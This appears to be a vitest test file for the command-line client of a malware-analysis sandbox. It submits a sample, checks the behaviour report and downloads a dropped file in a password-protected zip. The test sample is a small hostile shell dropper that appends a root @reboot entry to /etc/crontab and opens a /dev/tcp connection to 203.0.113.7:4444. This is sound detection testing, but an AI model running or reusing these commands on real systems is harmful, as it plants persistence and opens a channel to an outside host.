import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AnalysisDetail, Analysis } from '@quell/contracts';
import { cmd, requirements, SANDBOX_REQUIREMENTS } from '../../server/test/support/sandbox-requirements.js';
import { json, startTestServer, type TestServer } from './harness.js';

const missing = requirements([...SANDBOX_REQUIREMENTS, cmd('7z', '7zip')], 'quell analysis tests');
const sha256 = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');

const PAYLOAD = 'quell-cli-analysis-payload\n';
const DROPPER = [
  '#!/bin/sh',
  `printf 'quell-cli-analysis-payload\\n' > /tmp/dropped.bin`,
  "echo '@reboot root /tmp/dropped.bin' >> /etc/crontab",
  "bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444' 2>/dev/null",
  '',
].join('\n');

describe.skipIf(missing.length > 0)('quell analysis', () => {
  let t: TestServer;
  beforeAll(async () => {
    t = await startTestServer();
  });
  afterAll(async () => {
    await t?.stop();
  });

  it('uploads a file, waits for its report and prints it readably; lists it; downloads a dropped file', async () => {
    const sample = join(t.dir, 'dropper.sh');
    writeFileSync(sample, DROPPER);
    const submitted = await t.run(['analysis', 'submit', sample, '--timeout', '30', '--wait', '--json'], {
      timeoutMs: 60_000,
    });
    const a = json<AnalysisDetail>(submitted);
    expect(a).toMatchObject({ status: 'completed', fileName: 'dropper.sh', sha256: sha256(DROPPER) });
    expect(submitted.stderr).toContain(`analysis ${a.id} dropper.sh: completed`);

    const shown = await t.run(['analysis', 'show', a.id]);
    expect(shown.code, shown.stderr).toBe(0);
    for (const text of [
      'VERDICT',
      'BEHAVIOURS (MITRE ATT&CK)',
      'T1053.003',
      'PROCESS TREE',
      '/sample/dropper.sh',
      `/tmp/dropped.bin (${PAYLOAD.length} B)  sha256 ${sha256(PAYLOAD)} [downloadable]`,
      'PERSISTENCE',
      '/etc/crontab',
      'tcp 203.0.113.7:4444',
      'DNS LOOKUPS',
    ])
      expect(shown.stdout).toContain(text);

    const list = json<{ items: Analysis[] }>(
      await t.run(['analysis', 'list', '--status', 'completed', '--json']),
    );
    expect(list.items.map((x) => x.id)).toEqual([a.id]);

    const zip = join(t.dir, 'dropped.zip');
    const password = 'a zip password for the test';
    const noPassword = await t.run([
      'analysis',
      'download',
      a.id,
      sha256(PAYLOAD),
      '--reason',
      'triage',
      '-o',
      zip,
    ]);
    expect(noPassword.code).not.toBe(0);
    expect(noPassword.stderr).toContain('--password-file');
    const saved = await t.run(
      ['analysis', 'download', a.id, sha256(PAYLOAD), '--reason', 'triage', '-o', zip],
      {
        env: { QUELL_ZIP_PASSWORD: password },
      },
    );
    expect(saved.code, saved.stderr).toBe(0);
    const out = join(t.dir, 'unzipped');
    execFileSync('7z', ['x', `-p${password}`, `-o${out}`, '-y', zip], { stdio: 'ignore' });
    expect(sha256(readFileSync(join(out, 'dropped.bin')))).toBe(sha256(PAYLOAD));
  });

  it('refuses a path and --sha256 together, and an unknown hash with how to get the file in', async () => {
    const both = await t.run(['analysis', 'submit', 'x', '--sha256', 'a'.repeat(64)]);
    expect(both.code).not.toBe(0);
    expect(both.stderr).toContain('not both');
    const unknown = await t.run(['analysis', 'submit', '--sha256', 'a'.repeat(64)]);
    expect(unknown.code).not.toBe(0);
    expect(unknown.stderr).toMatch(/collect.*upload/i);
  });
});
